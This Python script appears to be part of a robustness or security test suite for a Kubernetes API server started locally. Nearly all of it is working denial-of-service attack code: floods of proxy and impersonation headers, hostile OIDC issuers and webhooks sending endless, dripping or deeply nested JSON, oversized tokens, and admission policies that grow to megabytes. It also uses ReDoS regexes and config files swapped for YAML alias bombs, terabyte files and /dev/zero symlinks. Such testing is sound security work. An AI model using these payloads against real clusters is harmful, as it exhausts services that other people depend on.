#!/usr/bin/env python3
"""Attacks a server by way of those who vouch for users and judge requests, and reports what others notice.

usage: attacks_access.py [--only NAME,...] [--seconds N] [--memory MIB] SERVER

As attacks.py, whose code this shares: proxies in front of the server, issuers of ID tokens, webhooks for tokens and for
authorization, policies, and files that change while the server runs. Needs the program openssl.
"""

import base64
import http.server
import json
import os
import re
import socket
import ssl
import subprocess
import threading
import time

import attacks
from attacks import RBAC, Client, again, definition, numbered, thing

MAPS = "/api/v1/namespaces/team/configmaps"
POLICIES = "/apis/admissionregistration.k8s.io/v1"


# Certificates and tokens.

def openssl(*arguments, data=None):
    return subprocess.run(["openssl", *arguments], input=data, check=True, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL).stdout


def certificate(directory, name):
    """Makes a key, a certificate of the common name for 127.0.0.1, and an authority that has signed it; returns their paths."""
    key, cert, ca, ca_key, request = (os.path.join(directory, name + end) for end in (".key", ".crt", ".ca", ".ca-key", ".csr"))
    new = ["-newkey", "rsa:2048", "-nodes"]
    openssl("req", "-x509", *new, "-days", "2", "-subj", "/CN=ca", "-keyout", ca_key, "-out", ca)
    openssl("req", *new, "-subj", "/CN=" + name, "-keyout", key, "-out", request)
    extensions = write(directory, name + ".extensions", "subjectAltName=IP:127.0.0.1\nextendedKeyUsage=serverAuth,clientAuth\nbasicConstraints=CA:FALSE\n")
    openssl("x509", "-req", "-days", "2", "-in", request, "-CA", ca, "-CAkey", ca_key, "-extfile", extensions, "-out", cert)
    return key, cert, ca


def text(path):
    with open(path) as file:
        return file.read()


def write(directory, name, contents):
    path = os.path.join(directory, name)
    with open(path, "w") as file:
        file.write(contents if isinstance(contents, str) else json.dumps(contents))
    return path


def encoded(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=")


def token(claims, key=None, **header):
    """Returns a token that the key has signed; without a key, its signature is of no key."""
    head = encoded(json.dumps({"alg": "RS256", **header}).encode())
    signed = head + b"." + encoded(json.dumps({"aud": "me", "exp": 4e9, **claims}, separators=(",", ":")).encode())
    signature = openssl("dgst", "-sha256", "-sign", key, data=signed) if key else b"x" * 256
    return (signed + b"." + encoded(signature)).decode()


def public(key, identity):
    modulus = openssl("rsa", "-in", key, "-noout", "-modulus").decode().strip().split("=")[1]
    return {"kty": "RSA", "kid": identity, "alg": "RS256", "use": "sig", "n": encoded(bytes.fromhex(modulus)).decode(), "e": "AQAB"}


# Servers that the attacked one asks.

class Hostile:
    """An HTTPS server whose answers are functions of the request's path and body: lists of pieces, or iterators without a length."""

    def __init__(self, directory, answers):
        self.key, self.cert, self.ca = certificate(directory, "hostile")
        self.asked, answers = {}, answers
        hostile = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                path = self.path.split("?")[0]
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                hostile.asked[path] = hostile.asked.get(path, 0) + 1
                pieces = answers(path, body)
                length = b"Content-Length: %d\r\n" % sum(map(len, pieces)) if isinstance(pieces, list) else b""
                self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n" + length + b"\r\n")
                for piece in pieces:
                    self.wfile.write(piece)
                self.close_connection = True

            do_POST = do_GET

            def log_message(self, *_):
                pass

        class Server(http.server.ThreadingHTTPServer):
            daemon_threads = True
            request_queue_size = 256

            def handle_error(self, *_):
                pass

            def get_request(self):
                connection, address = self.socket.accept()
                connection.settimeout(60)
                return context.wrap_socket(connection, server_side=True, do_handshake_on_connect=False), address

        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(self.cert, self.key)
        self.server = Server(("127.0.0.1", 0), Handler)
        self.url = "https://127.0.0.1:%d" % self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def kubeconfig(self, directory, path):
        return write(directory, "webhook" + path.replace("/", "-"), {
            "apiVersion": "v1", "kind": "Config", "current-context": "c",
            "clusters": [{"name": "c", "cluster": {"server": self.url + path, "certificate-authority": self.ca}}],
            "users": [{"name": "c", "user": {}}], "contexts": [{"name": "c", "context": {"cluster": "c", "user": "c"}}]})


def whole(value):
    return [value if isinstance(value, bytes) else json.dumps(value, separators=(",", ":")).encode()]


def endless(begin=b'{"a":"', piece=b"x" * 65536, most=500 << 20):
    yield begin
    for _ in range(most // len(piece)):
        yield piece


def dripping(pieces):
    for byte in b"".join(pieces):
        yield bytes([byte])
        time.sleep(0.5)


def nested(depth=200_000):
    return [b'{"keys":' + b"[" * depth + b"]" * depth + b"}"]


# Clients.

class Http2Client(Client):
    """HTTP/2 by hand, one connection for each request: headers that occur again take a byte each on the wire."""

    certificate = None

    def ask(self, method, path, body=None, kind="application/json", headers=()):
        try:
            return self.exchange(method, path, headers)
        except (OSError, IndexError) as error:
            return 0, str(error).encode()

    def exchange(self, method, path, headers):
        context = ssl._create_unverified_context()
        context.set_alpn_protocols(["h2"])
        if self.certificate:
            context.load_cert_chain(*self.certificate)
        with context.wrap_socket(socket.create_connection(("127.0.0.1", self.port), timeout=60)) as connection:
            block = self.block([(":method", method), (":path", path), (":scheme", "https"), (":authority", "a"), *headers])
            frames = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
            pieces = [block[at:at + 16384] for at in range(0, len(block), 16384)]
            for at, piece in enumerate(pieces):
                frames += frame(9 if at else 1, (0 if at else 1) | (4 if at == len(pieces) - 1 else 0), 1, piece)
            connection.sendall(frames)
            return self.answer(connection.makefile("rb"))

    def block(self, headers):
        """Encodes the headers; one that is the same as the one before takes the latest entry of the table."""
        encoded, last = bytearray(), None
        for header in headers:
            if header == last:
                encoded.append(0xbe)
                continue
            last = header if not header[0].startswith(":") else None
            encoded.append(0x40 if last else 0)
            for part in header:
                part = part.encode()
                encoded += integer(len(part), 7) + part
        return bytes(encoded)

    def answer(self, stream):
        data = b""
        while True:
            head = stream.read(9)
            if len(head) < 9:
                return 0, data or b"the connection was closed"
            payload = stream.read(int.from_bytes(head[:3], "big"))
            kind, flags, number = head[3], head[4], int.from_bytes(head[5:], "big")
            if kind == 0:
                data += payload
            if kind in (0, 1) and flags & 1:
                code = re.search(rb'"kind":"Status".*"code":(\d+)', data, re.S)
                return int(code.group(1)) if code else 200, data
            if kind == 3 or kind == 7 and int.from_bytes(payload[4:8], "big"):
                return 0, b"reset: %d %s" % (int.from_bytes(payload[-4 if kind == 3 else 4:][:4], "big"), payload[8:])


def integer(value, bits):
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    value, encoded = value - most, [most]
    while value > 127:
        encoded.append(value & 127 | 128)
        value >>= 7
    return bytes(encoded + [value])


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


# A proxy in front of the server.

def proxied(attack):
    """Marks an attack whose requests come from a trusted proxy."""
    def setup(directory):
        key, cert, ca = certificate(directory, "proxy")
        ProxyClient.certificate = (cert, key)
        return ["--requestheader-client-ca-file=" + ca, "--requestheader-username-headers=X-Remote-User",
                "--requestheader-group-headers=X-Remote-Group", "--requestheader-extra-headers-prefix=X-Remote-Extra-",
                "--requestheader-allowed-names=proxy"]
    attack.setup, attack.client = setup, ProxyClient
    return attack


class ProxyClient(Http2Client):
    pass


def many_bindings(server, name="g%05d", bindings=40, subjects=15000):
    groups = [{"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": "not-" + name % n} for n in range(subjects)]
    for n in range(bindings):
        server.make(RBAC + "/namespaces/team/rolebindings", {
            "metadata": {"name": "b%d" % n}, "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "reader"},
            "subjects": groups})


@proxied
def proxy_groups(server):
    """Ten thousand groups in headers against hundreds of thousands of subjects; and one group of a megabyte."""
    many_bindings(server)
    many = [("x-remote-user", "p"), *(("x-remote-group", "g%05d" % n) for n in range(15000))]
    same = [("x-remote-user", "p"), *[("x-remote-group", "g")] * 20000]
    long = [("x-remote-user", "p"), ("x-remote-group", "g" * 1_000_000)]
    return [again("GET", MAPS, None, None, headers) for headers in (many, many, many, same, long, long)]


@proxied
def proxy_extra(server):
    """Thousands of extra headers, with escapes in their names."""
    many = [("x-remote-user", "p"), *(("x-remote-extra-%%41%05d" % n, "v") for n in range(14000))]
    same = [("x-remote-user", "p"), *[("x-remote-extra-a", "v")] * 17000]
    review = "/apis/authentication.k8s.io/v1/selfsubjectreviews"
    return [again("GET", path, None, None, headers) for headers in (many, same) for path in (MAPS, review, MAPS)]


class TokenClient2(Http2Client):
    def ask(self, method, path, body=None, kind=None, headers=()):
        return super().ask(method, path, headers=[("authorization", "Bearer attacker"), *headers])


def impersonation(server):
    """Each group and extra value to impersonate is authorized for itself."""
    many_bindings(server)
    server.make(RBAC + "/clusterroles", {"metadata": {"name": "impersonator"}, "rules": [
        {"verbs": ["impersonate"], "apiGroups": ["", "authentication.k8s.io"], "resources": ["users", "groups", "uids", "userextras/*"]}]})
    server.make(RBAC + "/clusterrolebindings", {
        "metadata": {"name": "impersonator"}, "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "impersonator"},
        "subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "attacker"}]})
    groups = [("impersonate-user", "p"), *(("impersonate-group", "g%05d" % n) for n in range(15000))]
    extra = [("impersonate-user", "p"), *(("impersonate-extra-k%05d" % n, "v") for n in range(13000))]
    same = [("impersonate-user", "p"), *[("impersonate-group", "g")] * 18000]
    nameless = groups[1:]
    return [again("GET", MAPS, None, None, headers) for headers in (groups, groups, extra, extra, same, nameless)]


impersonation.client = TokenClient2


# Issuers of ID tokens.

def issuers(paths, answers, mappings=None):
    """Returns a setup with one issuer for each path, whose server answers with `answers(path, hostile)`."""
    def setup(directory):
        hostile = Hostile(directory, lambda path, body: answers(path, setup.hostile))
        setup.hostile = hostile
        jwt = [{"issuer": {"url": hostile.url + path, "audiences": ["me"], "certificateAuthority": text(hostile.ca)},
                "claimMappings": mappings or {"username": {"claim": "sub", "prefix": ""}, "groups": {"claim": "groups", "prefix": ""}}}
               for path in paths]
        return ["--authentication-config=" + write(directory, "issuers", {
            "apiVersion": "apiserver.config.k8s.io/v1", "kind": "AuthenticationConfiguration", "jwt": jwt})]
    return setup


def discovery(path, hostile, keys="/keys"):
    issuer = path.removesuffix("/.well-known/openid-configuration")
    return whole({"issuer": hostile.url + issuer, "jwks_uri": hostile.url + issuer + keys})


def bearing(make):
    """Requests with the token that `make` returns for a number."""
    return numbered(lambda n: ("GET", MAPS, None, "application/json", {"Authorization": "Bearer " + make(n)}))


DOCUMENTS = ["/endless", "/long", "/nested", "/dripping", "/wide"]


def oidc_discovery(server):
    """Discovery documents without an end, nested, byte by byte; tokens of all issuers."""
    hostile = oidc_discovery.setup.hostile
    return [bearing(lambda n, path=path: token({"iss": hostile.url + path, "n": n}, kid="k%d" % n)) for path in DOCUMENTS * 2]


def document(path, hostile):
    return {"endless": lambda: endless(), "long": lambda: endless(b'{"keys":[', b'{"kty":"RSA"},' * 5000), "nested": nested,
            "dripping": lambda: dripping(whole(b'{"keys":[' + b" " * 100_000)),
            "wide": lambda: whole({"keys": [{"kty": "RSA", "n": "%x" % n, "e": "AQAB"} for n in range(11_000)]})}[path.split("/")[1]]()


oidc_discovery.setup = issuers(DOCUMENTS, document)


def oidc_keys(server):
    """The same for keys; tokens with ever new key identities have them fetched."""
    hostile = oidc_keys.setup.hostile
    claims = [0] * 80_000
    return [bearing(lambda n, path=path: token({"iss": hostile.url + path, "n": n, "c": claims}, kid="k%d" % n)) for path in DOCUMENTS * 8]


def discovered(path, hostile):
    return discovery(path, hostile) if path.endswith("configuration") else document(path, hostile)


oidc_keys.setup = issuers(DOCUMENTS, discovered)


def oidc_slow_keys(server):
    """Keys with the largest modulus and exponent, all of which are tried for tokens that name none."""
    hostile = oidc_slow_keys.setup.hostile
    return [bearing(lambda n: token({"iss": hostile.url + "/slow", "n": n})) for _ in range(40)]


def slow_keys(path, hostile):
    if path.endswith("configuration"):
        return discovery(path, hostile)
    modulus = encoded(b"\xff" * 1024).decode()
    return whole({"keys": [{"kty": "RSA", "n": modulus, "e": encoded(b"\x01" + b"\xff" * 3 + b"\xff").decode()}] * 300})


oidc_slow_keys.setup = issuers(["/slow"], slow_keys)

CLAIMS = ["endless", "dripping", "groups", "nested"]


def oidc_claims(server):
    """Good tokens whose groups are elsewhere: without an end, byte by byte, a hundred thousand of them."""
    hostile = oidc_claims.setup.hostile
    def tokens(claim):
        made = [token({"iss": hostile.url + "/good", "sub": "s%d" % n, "_claim_names": {"groups": "g"},
                       "_claim_sources": {"g": {"endpoint": hostile.url + "/claims/" + claim}}}, hostile.key, kid="k") for n in range(40)]
        return lambda n: made[n % len(made)]
    kinds = {claim: tokens(claim) for claim in CLAIMS}
    return [bearing(kinds[claim]) for claim in CLAIMS * 15]


def claims(path, hostile):
    if path.endswith("configuration"):
        return discovery(path, hostile)
    if path == "/good/keys":
        return whole({"keys": [public(hostile.key, "k")]})
    if path == "/claims/groups":
        if not hasattr(hostile, "groups"):
            hostile.groups = token({"iss": hostile.url + "/good", "groups": [""] * 64_000}, hostile.key, kid="k").encode()
        return whole(hostile.groups)
    return {"endless": lambda: endless(b""), "dripping": lambda: dripping(whole(b"a" * 1000)), "nested": nested}[path.split("/")[2]]()


oidc_claims.setup = issuers(["/good"], claims)


def oidc_expressions(server):
    """Mappings that are worth their limit of cost for tokens with long lists."""
    hostile = oidc_expressions.setup.hostile
    made = [token({"iss": hostile.url + "/good", "sub": "s%d" % n, "l": ["a"] * 45_000}, hostile.key, kid="k") for n in range(20)]
    return [bearing(lambda n: made[n % len(made)]) for _ in range(10)]


oidc_expressions.setup = issuers(["/good"], claims, {
    "username": {"expression": "claims.sub + string(claims.l.map(x, claims.l).size())"},
    "groups": {"expression": "claims.l.map(x, x + claims.l.join(''))"},
    "extra": [{"key": "example.com/k%d" % n, "valueExpression": "claims.l.map(x, x + claims.sub)"} for n in range(10)]})


# Webhooks for tokens and for authorization.

def token_webhook(answer):
    def setup(directory):
        hostile = Hostile(directory, lambda path, body: answer(json.loads(body)["spec"]["token"]))
        return ["--authentication-token-webhook-config-file=" + hostile.kubeconfig(directory, "/tokens"),
                "--authentication-token-webhook-version=v1"]
    return setup


def review(user):
    return whole({"kind": "TokenReview", "apiVersion": "authentication.k8s.io/v1", "status": {"authenticated": True, "user": user}})


def webhook_groups(server):
    """Ever new tokens of users in 100,000 groups."""
    return [bearing(lambda n, c=c: "t%d-%d" % (c, n)) for c in range(24)]


webhook_groups.setup = token_webhook(lambda token: review({"username": token, "groups": ["g%04x" % (n & 0xfff) for n in range(110_000)]}))


def webhook_empty_groups(server):
    """As many groups as the shortest names allow."""
    return [bearing(lambda n, c=c: "t%d-%d" % (c, n)) for c in range(24)]


webhook_empty_groups.setup = token_webhook(lambda token: review({"username": token, "groups": [""] * 340_000}))


def webhook_answers(server):
    """Answers without an end, byte by byte, and nested."""
    return [bearing(lambda n, c=c: "t%d-%d" % (c, n)) for c in range(60)]


webhook_answers.setup = token_webhook(lambda token: [endless, lambda: dripping(whole(b" " * 1000)), nested][int(token.split("-")[1]) % 3]())


def webhook_long_tokens(server):
    """Tokens of a megabyte, for which a slow webhook is asked."""
    return [bearing(lambda n, c=c: "t%d-%d-" % (c, n) + "x" * 1_000_000) for c in range(150)]


webhook_long_tokens.setup = token_webhook(lambda token: dripping(whole(b" " * 1000)))


def authorization_webhook(answer, mode):
    def setup(directory):
        hostile = Hostile(directory, lambda path, body: answer(json.loads(body)["spec"]))
        return ["--authorization-mode=" + mode, "--authorization-webhook-config-file=" + hostile.kubeconfig(directory, "/authorize"),
                "--authorization-webhook-version=v1"]
    return setup


def decided(**status):
    return whole({"kind": "SubjectAccessReview", "apiVersion": "authorization.k8s.io/v1", "status": status})


def reasons(spec):
    return decided(allowed=False, reason="because " * 900_000) if spec["user"] == "attacker" else decided(allowed=False)


def authorization_reasons(server):
    """Refusals whose reason has seven megabytes."""
    return [numbered(lambda n, c=c: ("GET", "/api/v1/namespaces/n%d-%d/secrets" % (c, n), None)) for c in range(30)]


authorization_reasons.setup = authorization_webhook(reasons, "RBAC,Webhook")


def judged(spec):
    if spec["user"] != "attacker":
        return decided(allowed=False)
    at = int(spec["resourceAttributes"]["namespace"].split("-")[1])
    return [endless, lambda: dripping(whole(b" " * 1000)), nested, lambda: [b'{"status":{"x":[' + b"1," * 3_500_000 + b"1]}}"]][at % 4]()


def authorization_answers(server):
    """Answers without an end, byte by byte, nested, and of millions of values."""
    return [numbered(lambda n, c=c: ("GET", "/api/v1/namespaces/n%d-%d/secrets" % (c, n), None)) for c in range(60)]


authorization_answers.setup = authorization_webhook(judged, "RBAC,Webhook")


def account_tokens(server):
    """Tokens of service accounts that nobody has signed, with claims of 200 KB."""
    issuer = json.loads(server.root.ask("GET", "/.well-known/openid-configuration")[1])["issuer"]
    keys = json.loads(server.root.ask("GET", "/openid/v1/jwks")[1])["keys"]
    def make(size, kid):
        return lambda n: token({"iss": issuer, "sub": "system:serviceaccount:team:a", "n": n, "c": [0] * size}, kid=kid or "k%d" % n)
    return [bearing(make(size, kid)) for size in (0, 80_000) for kid in ("", keys[0]["kid"]) for _ in range(5)]


# Policies.

def policy(server, kind, name, spec, bindings=({},), resource="configmaps", group=""):
    """Creates a policy for the attacker's namespace, and its bindings."""
    rules = [{"apiGroups": [group], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"], "resources": [resource]}]
    own = {"matchLabels": {"kubernetes.io/metadata.name": "team"}}
    server.make("%s/%spolicies" % (POLICIES, kind), {
        "metadata": {"name": name}, "spec": {"failurePolicy": "Fail", "matchConstraints": {"resourceRules": rules, "namespaceSelector": own}, **spec}})
    for n, binding in enumerate(bindings):
        server.make("%s/%spolicybindings" % (POLICIES, kind), {"metadata": {"name": "%s-%d" % (name, n)}, "spec": {"policyName": name, **binding}})


MUTATING, VALIDATING = "mutatingadmission", "validatingadmission"


def doubled(first, times):
    """Variables of which each is twice the one before."""
    yield {"name": "v0", "expression": first}
    for n in range(times):
        yield {"name": "v%d" % (n + 1), "expression": "variables.v%d + variables.v%d" % (n, n)}


def writes(connections=8, path=MAPS):
    return [numbered(lambda n, c=c: ("POST", path, {"metadata": {"generateName": "w-"}, "data": {"k": "v"}})) for c in range(connections)]


def mutating_growth(server):
    """Policies that each add texts of megabytes, and cause each other to run again."""
    for n in range(12):
        for kind, first, times, value in [("text", "'%s'" % ("x" * 64), 15, "{'%s%d': variables.v15}"),
                                          ("list", "['xxxxxxxx', 'xxxxxxxx']", 16, "{'%s%d': variables.v16.join('')}")]:
            policy(server, MUTATING, "%s%02d" % (kind, n), {
                "reinvocationPolicy": "IfNeeded", "variables": list(doubled(first, times)),
                "mutations": [{"patchType": "ApplyConfiguration", "applyConfiguration": {"expression": "Object{data: %s}" % (value % (kind, n))}}]})
    return writes()


def mutating_patches(server):
    """JSON patches that copy an object into itself, and lists of a hundred thousand operations."""
    group = "patched.example.com"
    path = server.define(group, {"type": "object", "x-kubernetes-preserve-unknown-fields": True})
    copies = ", ".join("JSONPatch{op: 'copy', from: '/spec', path: '/spec/c%d'}" % n for n in range(30))
    patch = lambda name, variables, expression: policy(server, MUTATING, name, {
        "reinvocationPolicy": "IfNeeded", "variables": variables,
        "mutations": [{"patchType": "JSONPatch", "jsonPatch": {"expression": expression}}]}, resource="things", group=group)
    for n in range(6):
        patch("copies%d" % n, [], "[%s]" % copies)
        patch("many%d" % n, [], "object.spec.l.map(x, JSONPatch{op: 'add', path: '/spec/l/0', value: object.spec.l})")
        patch("wide%d" % n, list(doubled("[object.spec.l, object.spec.l]", 12)), "[JSONPatch{op: 'add', path: '/spec/w', value: variables.v12}]")
    names = iter(range(10 ** 9))
    return [numbered(lambda n: ("POST", path, thing(group, "t%d" % next(names), {"l": list(range(size))}))) for size in (100, 10_000, 100_000) for _ in range(3)]


def validating_variables(server):
    """Texts and lists of variables as large as their cost allows, compared, turned into texts, and in messages."""
    uses = ["variables.v17 == variables.v17 + 'x'", "variables.v17.matches('(x+x+)+y')", "variables.v17.split('x').size() == 0",
            "variables.v17.replace('x', 'yyyyyyyy') == ''", "variables.v17.upperAscii().lowerAscii().contains('y')"]
    lists = ["variables.v18 == variables.v18 + [1]", "sets.contains(variables.v10, variables.v10) && false", "string(variables.v18.map(x, [variables.v18]).size()) == ''",
             "variables.v18.map(x, string(x)).join('').size() == 0", "variables.v18.all(x, variables.v18.exists(y, y == x)) && false"]
    for n, use in enumerate(uses):
        policy(server, VALIDATING, "text%d" % n, {"variables": list(doubled("'xxxxxxxxxxxxxxxx'", 17)),
               "validations": [{"expression": use, "messageExpression": "variables.v8 + '%d'" % k} for k in range(30)]}, [{"validationActions": ["Warn", "Audit"]}])
    for n, use in enumerate(lists):
        policy(server, VALIDATING, "list%d" % n, {"variables": list(doubled("[1, 2]", 18)),
               "validations": [{"expression": use}], "auditAnnotations": [{"key": "k%d" % k, "valueExpression": "variables.v10.map(x, string(x)).join('') + '%d'" % k} for k in range(20)]},
               [{"validationActions": ["Deny"]}])
    return writes()


def audited(directory):
    rules = write(directory, "audit.yaml", {"apiVersion": "audit.k8s.io/v1", "kind": "Policy", "rules": [{"level": "RequestResponse"}]})
    return ["--audit-policy-file=" + rules, "--audit-log-path=" + os.path.join(directory, "audit.log"), "--audit-log-maxsize=10", "--audit-log-maxbackup=1"]


validating_variables.setup = audited


def parameters(server, count=10_000):
    for n in range(count):
        server.make("/api/v1/namespaces/default/configmaps", {"metadata": {"name": "p%d" % n, "labels": {"p": "p"}}, "data": {"n": str(n)}})
    return {"paramRef": {"selector": {"matchLabels": {"p": "p"}}, "namespace": "default", "parameterNotFoundAction": "Deny"}}


def validating_parameters(server):
    """Ten thousand parameters, for each of which a policy has a message of half a megabyte."""
    reference = parameters(server)
    kind = {"paramKind": {"apiVersion": "v1", "kind": "ConfigMap"}}
    failing = [{"expression": "params.data.n == 'x'", "message": "m" * 500_000}]
    policy(server, VALIDATING, "denies", {**kind, "validations": failing}, [{"validationActions": ["Deny"], **reference}])
    policy(server, VALIDATING, "tells", {**kind, "validations": failing}, [{"validationActions": ["Warn", "Audit"], **reference}] * 20)
    policy(server, VALIDATING, "notes", {
        **kind, "auditAnnotations": [{"key": "k%d" % k, "valueExpression": "'%s' + params.data.n" % ("x" * 4000)} for k in range(20)]},
        [{"validationActions": ["Deny"], **reference}])
    return writes()


validating_parameters.setup = audited


def mutating_parameters(server):
    """Ten thousand parameters with which each mutation fails, and the refusal has a cause for each."""
    reference = parameters(server)
    policy(server, MUTATING, "fails", {
        "reinvocationPolicy": "IfNeeded", "paramKind": {"apiVersion": "v1", "kind": "ConfigMap"},
        "mutations": [{"patchType": "ApplyConfiguration", "applyConfiguration": {"expression": "Object{data: {'%s': params.none}}" % ("x" * 20_000)}}] * 10},
        [reference])
    return writes()


def match_conditions(server):
    """A hundred policies with as many conditions as they may have, each with half of the cost of all."""
    conditions = lambda p: [{"name": "c%d" % n, "expression": "'%s'.matches('(x+x+)+%dy%d') || true" % ("x" * 3000, p, n)} for n in range(64)]
    for n in range(100):
        policy(server, VALIDATING, "p%03d" % n, {"matchConditions": conditions(n), "validations": [{"expression": "true"}]}, [{"validationActions": ["Deny"]}])
    return writes()


def changing_policies(server):
    """Policies that change all the time while others are judged by them; the attacker may write them."""
    server.make(RBAC + "/clusterroles", {"metadata": {"name": "author"}, "rules": [{"verbs": ["*"], "apiGroups": ["admissionregistration.k8s.io"], "resources": ["*"]}]})
    server.make(RBAC + "/clusterrolebindings", {
        "metadata": {"name": "author"}, "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "author"},
        "subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "attacker"}]})
    long = lambda n: " || ".join("object.data.k == '%d%s'" % (n, "x" * 20) for n in range(n, n + 2500))
    for p in range(20):
        policy(server, VALIDATING, "p%d" % p, {"validations": [{"expression": "true"}]}, [{"validationActions": ["Warn"]}])
    change = lambda c: numbered(lambda n: ("PATCH", "%s/validatingadmissionpolicies/p%d" % (POLICIES, (n + c) % 20), {
        "spec": {"variables": [{"name": "v%d" % k, "expression": long(n)} for k in range(3)], "validations": [{"expression": long(n), "messageExpression": "'%d'" % n}]}},
        "application/merge-patch+json"))
    return [change(c) for c in range(4)] + writes(4)


# Files that change while the server runs.

FILES = ["flags.yaml", "issuers.yaml", "authorizers.yaml", "encryption.yaml", "manifests/policy.yaml"]


def reloading(directory):
    """Writes the files as they are at the start, and returns their flags."""
    os.mkdir(os.path.join(directory, "manifests"))
    config = lambda kind, **members: {"apiVersion": "apiserver.config.k8s.io/v1", "kind": kind, **members}
    reloading.good = {
        "flags.yaml": {"v": 1},
        "issuers.yaml": config("AuthenticationConfiguration", jwt=[]),
        "authorizers.yaml": config("AuthorizationConfiguration", authorizers=[{"type": "RBAC", "name": "rbac"}]),
        "encryption.yaml": config("EncryptionConfiguration", resources=[{"resources": ["secrets"], "providers": [
            {"aescbc": {"keys": [{"name": "k", "secret": base64.b64encode(b"k" * 32).decode()}]}}, {"identity": {}}]}]),
        "manifests/policy.yaml": {"apiVersion": "v1", "kind": "List", "items": []}}
    reloading.directory = directory
    paths = {name: write(directory, name, contents) for name, contents in reloading.good.items()}
    admission = write(directory, "admission.yaml", config("AdmissionConfiguration", plugins=[
        {"name": "ValidatingAdmissionPolicy", "configuration": config("ValidatingAdmissionPolicyConfiguration", staticManifestsDir=os.path.join(directory, "manifests"))}]))
    return ["--config=" + paths["flags.yaml"], "--authentication-config=" + paths["issuers.yaml"], "--authorization-config=" + paths["authorizers.yaml"],
            "--encryption-provider-config=" + paths["encryption.yaml"], "--encryption-provider-config-automatic-reload",
            "--admission-control-config-file=" + admission, "--feature-gates=ManifestBasedAdmissionControlConfig=true"]


def spoilt(name, n):
    """Returns the text of a file that cannot be used, or would cost a lot."""
    good, kind = reloading.good[name], n % 8
    if kind == 0:
        return json.dumps(good) + " " * (n % 50)
    if kind == 1:
        return "\n".join(["a0: &a0 [x]"] + ["a%d: &a%d [%s]" % (k, k, ",".join(["*a%d" % (k - 1)] * 50)) for k in range(1, 40)])
    if kind == 2:
        return "".join("key-%06d: value\n" % k for k in range(150_000))
    if kind == 3:
        return "k" * 2_900_000 + ": 1"
    if kind == 4:
        return "[" * 1_000_000
    if kind == 5:
        return "a: '" + "x" * 2_000_000
    if kind == 6:
        rules = [{"expression": " || ".join("claims.sub == '%d'" % k for k in range(1000))}] * 10
        issuer = lambda k: {"issuer": {"url": "https://i%d" % k, "audiences": ["a"]}, "claimMappings": {"username": {"claim": "sub", "prefix": ""}}, "claimValidationRules": rules}
        many = {"issuers.yaml": {"jwt": [issuer(k) for k in range(10)]},
                "authorizers.yaml": {"authorizers": [{"type": "Webhook", "name": "w%d" % k, "webhook": {
                    "timeout": "3s", "subjectAccessReviewVersion": "v1", "matchConditionSubjectAccessReviewVersion": "v1", "failurePolicy": "Deny",
                    "connectionInfo": {"type": "KubeConfigFile", "kubeConfigFile": "/dev/zero"},
                    "matchConditions": [{"expression": " || ".join("request.user == '%d'" % j for j in range(2000))}] * 20}} for k in range(20)]},
                "encryption.yaml": {"resources": [{"resources": ["r%d" % k], "providers": [{"identity": {}}]} for k in range(50_000)]}}
        return json.dumps({**good, **many.get(name, {"k%d" % k: k for k in range(100_000)})})
    return None


def files(server):
    """Every second the files become something else: bombs of aliases, a file without end, a terabyte, much to compile."""
    def change(n):
        for name in FILES:
            path, contents = os.path.join(reloading.directory, name), spoilt(name, n)
            with open(path + ".new", "w") as file:
                if contents is None:
                    file.truncate(1 << 40)
                else:
                    file.write(contents)
            if n % 16 == 15:
                os.remove(path + ".new")
                os.symlink("/dev/zero", path + ".new")
            os.replace(path + ".new", path)
        time.sleep(1.2)
        return "GET", MAPS, None
    return [numbered(change)] + writes(2)


files.setup = reloading

ATTACKS = [proxy_groups, proxy_extra, impersonation, oidc_discovery, oidc_keys, oidc_slow_keys, oidc_claims, oidc_expressions, webhook_groups,
           webhook_empty_groups, webhook_answers, webhook_long_tokens, authorization_reasons, authorization_answers, account_tokens,
           mutating_growth, mutating_patches, validating_variables, validating_parameters, mutating_parameters, match_conditions,
           changing_policies, files]


if __name__ == "__main__":
    attacks.main(ATTACKS, __doc__)
